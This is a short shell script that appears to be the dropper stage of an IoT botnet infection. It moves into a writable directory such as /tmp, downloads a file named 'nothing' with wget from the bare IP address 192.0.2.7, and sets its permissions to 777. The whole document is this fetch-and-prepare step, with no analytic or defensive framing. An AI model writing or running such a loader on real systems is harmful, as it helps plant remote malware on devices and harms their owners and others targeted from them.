#!/bin/sh
cd /tmp || cd /var/run || cd /mnt || exit 1
wget http://192.0.2.7/nothing; chmod 777 nothing
